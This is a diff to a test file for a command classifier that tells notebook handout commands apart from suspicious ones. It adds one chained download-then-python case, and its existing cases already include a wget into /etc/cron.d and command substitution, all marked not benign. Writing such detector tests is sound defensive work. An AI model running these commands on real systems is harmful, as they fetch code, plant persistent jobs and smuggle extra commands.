@@ -109,6 +109,7 @@ def test_handout_notebook_recipe_and_drive_mount_are_recorded_not_flagged(tmp_pa
     ("ls; python -c 'import os'", False),
     ("wget http://x/y -O /etc/cron.d/job", False),
     ("echo `id`", False),
+    ("wget -nc http://x/noisynote.zip\npython -c 'import os'", False),
 ])
 def test_handout_commands_are_told_apart_from_others(command, benign):
     assert benign_command(command, WORK) is benign
